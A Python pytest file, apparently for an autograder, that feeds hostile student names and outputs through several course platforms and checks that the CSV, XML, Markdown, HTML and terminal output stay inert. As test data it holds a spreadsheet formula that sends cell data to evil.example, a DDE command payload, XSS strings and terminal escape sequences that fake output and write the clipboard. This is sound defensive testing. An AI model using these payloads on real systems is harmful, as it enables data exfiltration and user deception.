"""A class of hostile names on every platform (issue 27), graded end to end and read back.

Each platform's download holds what a student controls, aimed at each place it lands: a name that
is a spreadsheet formula, HTML and Markdown links, a terminal's control sequences (erase a line,
move up, set the title, write the clipboard), XML 1.0's forbidden characters, a name another
student's id hides in, two names equal once cleaned, a file name no file system holds, a name in
bytes that are no UTF-8; one student's code prints control sequences and raises markup. Every file
the batch writes is then read back with the standard parsers (``csv``, ``xml.etree``, a CommonMark
renderer then ``html.parser`` for Markdown, ``html.parser``), and the terminal's bytes as ``cat -v``
would show them: nothing but printable text and new lines.

Each submission holds ex01 alone (the other exercises are missing and cost no process), which keeps
the five batches short; the whole chapter is graded, so that each platform's import file is written.
"""
from __future__ import annotations

import csv
import io
import os
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import SOLUTIONS
from test_unit_platforms import _zip

from grader import safetext
from grader.cli import main
from grader.runner import sandbox as sandboxes

pytestmark = pytest.mark.slow
PLAN = sandboxes.plan("auto")
WEAK = [] if PLAN.kind == "bwrap" and PLAN.uid_isolation else ["--allow-weak-sandbox"]
EX01 = (SOLUTIONS / "ex01_jit_forms.py").read_text(encoding="utf-8")
FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"Click")'
MARKUP = "<img src=x onerror=alert(1)> [click](javascript:alert(1))"
#: the same in a file's or folder's name (which holds no "/")
NAMED = '=HYPERLINK("evil.example?"&A3,"Click")<img src=x onerror=alert(1)>[click](javascript:alert(1))'

#: erase the line and go up (a fake "passed" line), set the window title, write the clipboard
CONTROLS = "\x1b[2K\x1b[1A\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07"
#: a student's ex01 that prints control sequences and raises markup and XML's forbidden characters
LOUD = (f"print({CONTROLS + ' ex01_jit_forms 10/10 passed <script>alert(1)</script>'!r})\n"
        f"raise ValueError({MARKUP + CONTROLS + chr(0) + chr(12)!r})\n")


def _moodle(root: Path) -> Path:
    folder = "_assignsubmission_file"
    return _zip(root / "moodle.zip", {
        f"Jane Roe_2002{folder}/ex01_jit_forms.py": EX01,
        f"Zed Bob_1001{folder}_ex01_jit_forms.py": EX01,
        f"Zed Bob_1001{folder}_x_2002_assignsubmission_file_ex01_jit_forms.py": EX01,  # Jane's id, in a file name
        f"Zed Bob_1001{folder}_{'z' * 300}.py": "x = 1\n",  # no file system holds this name
        f"{NAMED}{CONTROLS}_3003{folder}/ex01_jit_forms.py": EX01,
        f"Mal Lory_4004{folder}/ex01_jit_forms.py": LOUD + EX01})


def _canvas(root: Path) -> Path:
    return _zip(root / "canvas.zip", {
        "roejane_2002_555_ex01_jit_forms.py": EX01,
        "x_2002_1001_556_ex01_jit_forms.py": EX01,  # a Canvas name ending in digits: user 2002's or 1001's?
        "loudmal_1002_557_ex01_jit_forms.py": LOUD + EX01,
        f"loudmal_1002_558_{NAMED}{CONTROLS}.txt": "notes",
        "=cmd_1004_559_ex01_jit_forms.py": EX01,  # no Canvas name: a row that says so
        "a:b_1005_560_ex01_jit_forms.py": EX01, "a*b_1005_561_ex01_jit_forms.py": EX01})


def _anonymous(root: Path) -> Path:
    return _zip(root / "anonymous.zip", {
        "anon_Xy3kP_900_ex01_jit_forms.py": EX01, "LATE_anon_q8RtZ_901_ex01_jit_forms.py": LOUD + EX01,
        f"anon_Xy3kP_902_{NAMED}.txt": "notes"})


def _gradescope(root: Path) -> Path:
    metadata = (
        "submission_1:\n  :submitters:\n  - :name: '" + FORMULA.replace("'", "''") + "'\n"
        "    :sid: '@SUM(1+1)'\n    :email: '-2+3@evil.example'\n"
        '  :created_at: "=NOW()"\n'
        'submission_2:\n  :submitters:\n  - :name: "<script>alert(1)</script>\\e]0;pwned\\a\\e[2K"\n'
        "    :sid: '3031'\n    :email: ann@example.edu\n"
        "submission_3:\n  :submitters:\n  - :name: Ann Lee\n    :sid: '3031'\n    :email: bob@example.edu\n"
        "submission_4:\n  :submitters:\n  - :name: Mal Lory\n    :sid: '4004'\n    :email: mal@example.edu\n")
    return _zip(root / "gradescope.zip", {
        "submission_metadata.yml": metadata, "submission_1/ex01_jit_forms.py": EX01,
        "submission_2/ex01_jit_forms.py": EX01, "submission_3/ex01_jit_forms.py": EX01,
        "submission_4/ex01_jit_forms.py": LOUD + EX01})


def _folders(root: Path) -> Path:
    klass = root / "folders"
    names = ["a:b_1003", "a*b_1003", "=cmd|' \\C calc'!A0", f"<b>bold<\\b> {NAMED}", f"{CONTROLS}fake 10 of 10", "mal"]
    for name in names:
        (klass / name).mkdir(parents=True)
        (klass / name / "ex01_jit_forms.py").write_text(LOUD + EX01 if name == "mal" else EX01, encoding="utf-8")
    odd = os.path.join(os.fsencode(klass), b"bad\xff\xfename")  # a folder named in bytes that are no UTF-8
    os.mkdir(odd)
    with open(os.path.join(odd, b"ex01_jit_forms.py"), "w", encoding="utf-8") as handle:
        handle.write(EX01)
    return klass


class _Page(HTMLParser):
    def __init__(self, text: str):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _csv(path: Path) -> list[dict]:
    """A CSV file read back; no cell a spreadsheet would run, and no control character but a line end."""
    text = path.read_text(encoding="utf-8").lstrip("\ufeff")
    for cells in csv.reader(io.StringIO(text)):
        assert not [cell for cell in cells if safetext.formula(cell)], (path.name, cells)
        assert not [cell for cell in cells if re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", cell)], (path.name, cells)
    return list(csv.DictReader(io.StringIO(text)))


def _read_back(out: Path, terminal: bytes) -> dict[str, dict]:
    """Every file of the batch read back with its format's parser; the gradebook's rows by student."""
    assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]", terminal), terminal  # cat -v shows no ^[ or M-
    rows = _csv(out / "grades.csv")[1:]
    for name in ("download.csv", "canvas.csv", "moodle.csv", "canvas-anonymous.csv"):
        if (out / name).exists():
            _csv(out / name)
    suites = ET.parse(out / "junit.xml").getroot().findall("testsuite")
    assert len(suites) == len({r["student"] for r in rows})
    from markdown_it import MarkdownIt

    markdown = (out / "summary.md").read_text(encoding="utf-8")
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", markdown)
    rendered = _Page(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))
    assert not {"img", "script", "a", "b"} & {tag for tag, _ in rendered.tags}
    html = (out / "summary.html").read_text(encoding="utf-8")
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", html)
    page = _Page(html)
    assert not {"img", "script", "b"} & {tag for tag, _ in page.tags}
    assert all(re.fullmatch(r"[^/]+/report\.md", attrs["href"]) for tag, attrs in page.tags if tag == "a")
    for report in out.glob("*/report.md"):
        assert not {"img", "script"} & {tag for tag, _ in _Page(MarkdownIt("commonmark", {"html": True}).enable(
            "table").render(report.read_text(encoding="utf-8"))).tags}, report
    return {r["student"]: r for r in rows}


def _grade(download: Path, out: Path, capfdbinary) -> dict[str, dict]:
    code = main(["batch", str(download), "--chapter", "ch4", "--out", str(out), "--seed", "5",
                 "--lang", "en", "-j", "2", *WEAK])
    captured = capfdbinary.readouterr()
    assert code == 0, captured.err.decode("utf-8", "replace")
    return _read_back(out, captured.out + captured.err)


def test_a_class_of_hostile_names_on_every_platform(tmp_path, capfdbinary):
    moodle = _grade(_moodle(tmp_path), tmp_path / "moodle-out", capfdbinary)
    ids = [r["Identifier"] for r in _csv(tmp_path / "moodle-out" / "moodle.csv")]
    assert sorted(ids) == ["Participant 1001", "Participant 2002", "Participant 3003", "Participant 4004"]
    bob = moodle["Zed Bob_1001"]
    assert bob["ex01_jit_forms"] == "10" and "grade-worker" not in bob["detail"]  # the long name cost nothing
    assert moodle["Mal Lory_4004"]["status"] == "crash"
    summary = (tmp_path / "moodle-out" / "summary.md").read_text(encoding="utf-8")
    assert "was not graded: a part of its name is 303 bytes" in summary
    uses = {r["use"] for r in _csv(tmp_path / "moodle-out" / "download.csv")}
    assert "bad_name" in uses

    canvas = _grade(_canvas(tmp_path), tmp_path / "canvas-out", capfdbinary)
    assert sorted(r["ID"] for r in _csv(tmp_path / "canvas-out" / "canvas.csv")) == ["", "1002", "2002"]
    assert canvas["x_2002_1001"]["status"] == "not_a_submission" and "1001" in canvas["x_2002_1001"]["detail"]
    assert {"a:b_1005_560_ex01_jit_forms.py", "a*b_1005_561_ex01_jit_forms.py", "'=cmd_1004_559_ex01_jit_forms.py"} \
        <= set(canvas)

    anonymous = _grade(_anonymous(tmp_path), tmp_path / "anonymous-out", capfdbinary)
    assert set(anonymous) == {"anon_Xy3kP", "anon_q8RtZ"}
    assert sorted(r["anonymous id"] for r in _csv(tmp_path / "anonymous-out" / "canvas-anonymous.csv")) == \
        ["Xy3kP", "q8RtZ"]

    gradescope = _grade(_gradescope(tmp_path), tmp_path / "gradescope-out", capfdbinary)
    by_id = {r["id"]: r for r in gradescope.values()}
    assert "3031" not in by_id and by_id["'@SUM(1+1)"]["name"] == "'" + FORMULA
    assert by_id["'@SUM(1+1)"]["email"] == "'-2+3@evil.example" and by_id["'@SUM(1+1)"]["submitted"] == "'=NOW()"
    # each holds ex01 alone: the other exercises are missing (an error each), and Mal Lory's ex01 crashed
    assert sorted(r["status"] for r in gradescope.values()) == ["crash", "crash", "id_clash", "id_clash"]
    assert by_id["'@SUM(1+1)"]["ex01_jit_forms"] == "10" and by_id["4004"]["ex01_jit_forms"] == "0"

    folders = _grade(_folders(tmp_path), tmp_path / "folders-out", capfdbinary)
    assert {"a:b_1003", "a*b_1003", "'=cmd|' \\C calc'!A0", "bad\\xff\\xfename"} <= set(folders)
    assert folders["a:b_1003"]["ex01_jit_forms"] == folders["a*b_1003"]["ex01_jit_forms"] == "10"
    assert len({p.name for p in (tmp_path / "folders-out").iterdir() if p.is_dir()}) == 7
